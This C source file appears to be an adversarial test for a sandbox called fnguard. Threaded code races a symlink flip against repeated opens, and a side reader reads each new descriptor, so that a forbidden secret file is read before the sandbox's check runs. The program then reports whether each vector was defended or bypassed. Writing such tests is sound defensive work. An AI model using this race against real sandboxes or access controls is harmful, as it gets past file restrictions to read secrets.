/*
 * undo_window - a descriptor used by another thread before fnguard's
 * exit-stop check could undo the open that made it.
 *
 * Where fnguard checks what an open opened at its exit stop (read_handler,
 * an allowlist, the temp root without Landlock), the kernel has installed
 * the descriptor before that stop. Run with FNG_RACE_TARGET (a file the
 * policy forbids, holding the secret: the handler's code, or a file in the
 * temp root) and FNG_WORKDIR; with AWS_LAMBDA_RUNTIME_API set it first
 * connects there (under `--no-proxy` that ends initialisation and arms
 * read_handler). In FNG_WORKDIR it makes a data file `uw_d` and a symlink
 * `uw_s` to the target, then:
 * - an opener thread opens a path buffer FNG_RACE_ATTEMPTS times (default
 *   20000) while a flipper thread rewrites its last byte between `d` and `s`;
 * - a reader thread reads every descriptor from 3 to 63 at offset 0 without
 *   pause, so a descriptor for the target is read the moment it exists.
 * BYPASSED when the secret is read by either thread (`flip_open_read`: the
 * opener's own read; `flip_fd_side_read`: the reader's). Natively the
 * opener reads it; under fnguard no other task may run between such an
 * open and its check.
 *
 * Then the same race with `uw_f`, a FIFO the program keeps open for reading
 * and writing (so opening it never waits for a peer), as the decoy: an open
 * aimed at an existing FIFO used to run unheld, since a blocking one could
 * wait for a held peer (outside attack round 7). The opener cycles through
 * O_RDONLY, O_RDONLY|O_NONBLOCK and O_RDWR; vectors `fifo_open_read` and
 * `fifo_fd_side_read`.
 */
#define _GNU_SOURCE
#include "adv.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdbool.h>
#include <sys/stat.h>
#include <stdatomic.h>
#include <sys/socket.h>

struct race {
	char path[4096];
	size_t name_at;		/* the byte flipped between 'd' and 's' */
	long attempts;
	bool fifo;
	atomic_int stop;
	atomic_long opened_code, side_reads, opens_ok, opens_refused;
};

static void *flipper(void *arg)
{
	struct race *r = arg;
	volatile char *p = r->path + r->name_at;
	for (unsigned k = 0; !atomic_load(&r->stop); k ^= 1) {
		*p = k ? 's' : (r->fifo ? 'f' : 'd'); /* volatile: every store is made */
		for (volatile int spin = 0; spin < 2000; spin++) /* each name stands a while */
			;
	}
	return NULL;
}

static void *reader(void *arg)
{
	struct race *r = arg;
	char buf[64];

	while (!atomic_load(&r->stop))
		for (int fd = 3; fd < 64; fd++)
			if (is_secret(buf, pread(fd, buf, sizeof buf, 0)))
				atomic_fetch_add(&r->side_reads, 1);
	return NULL;
}

static void *opener(void *arg)
{
	struct race *r = arg;
	char buf[64];

	static const int modes[] = { O_RDONLY, O_RDONLY | O_NONBLOCK, O_RDWR };

	for (long i = 0; i < r->attempts; i++) {
		int fd = open(r->path, (r->fifo ? modes[i % 3] : O_RDONLY) | O_CLOEXEC);

		if (fd < 0) {
			atomic_fetch_add(&r->opens_refused, 1);
			continue;
		}
		atomic_fetch_add(&r->opens_ok, 1);
		if (is_secret(buf, pread(fd, buf, sizeof buf, 0)))
			atomic_fetch_add(&r->opened_code, 1);
		close(fd);
	}
	atomic_store(&r->stop, 1);
	return NULL;
}

/* One race with the decoy uw_d (a data file) or uw_f (a FIFO). */
static void race(struct race *r, bool fifo)
{
	pthread_t th[3];

	r->fifo = fifo;
	r->path[r->name_at] = fifo ? 'f' : 'd';
	atomic_store(&r->stop, 0);
	atomic_store(&r->opened_code, 0);
	atomic_store(&r->side_reads, 0);
	atomic_store(&r->opens_ok, 0);
	atomic_store(&r->opens_refused, 0);
	if (pthread_create(&th[0], NULL, flipper, r) || pthread_create(&th[1], NULL, reader, r) ||
	    pthread_create(&th[2], NULL, opener, r))
		env_error("pthread_create failed");
	for (int i = 0; i < 3; i++)
		pthread_join(th[i], NULL);
	report(fifo ? "fifo_open_read" : "flip_open_read", atomic_load(&r->opened_code) ? BYPASSED : DEFENDED,
	       "%ld of %ld opens read the target (%ld opened, %ld refused)", atomic_load(&r->opened_code),
	       r->attempts, atomic_load(&r->opens_ok), atomic_load(&r->opens_refused));
	report(fifo ? "fifo_fd_side_read" : "flip_fd_side_read", atomic_load(&r->side_reads) ? BYPASSED : DEFENDED,
	       "%ld reads of the target through a descriptor another thread opened", atomic_load(&r->side_reads));
}

int main(void)
{
	static struct race r;
	const char *target = getenv("FNG_RACE_TARGET"), *work = getenv("FNG_WORKDIR");
	const char *n = getenv("FNG_RACE_ATTEMPTS");
	int fd;

	if (!target || !*target || !work || !*work)
		env_error("FNG_RACE_TARGET and FNG_WORKDIR must be set");
	r.attempts = n && *n ? atol(n) : 20000;
	snprintf(r.path, sizeof r.path, "%s/uw_s", work);
	unlink(r.path);
	if (symlink(target, r.path) < 0)
		env_error("symlink %s: %s", r.path, strerror(errno));
	r.name_at = strlen(r.path) - 1;
	r.path[r.name_at] = 'd';
	fd = open(r.path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0 || write(fd, "data\n", 5) != 5)
		env_error("write %s: %s", r.path, strerror(errno));
	close(fd);
	r.path[r.name_at] = 'f';
	unlink(r.path);
	/* kept open for reading and writing: opening it never waits */
	if (mkfifo(r.path, 0644) < 0 || open(r.path, O_RDWR | O_CLOEXEC) < 0)
		env_error("fifo %s: %s", r.path, strerror(errno));
	adv_end_init();
	race(&r, false);
	race(&r, true);
	return adv_exit_status();
}
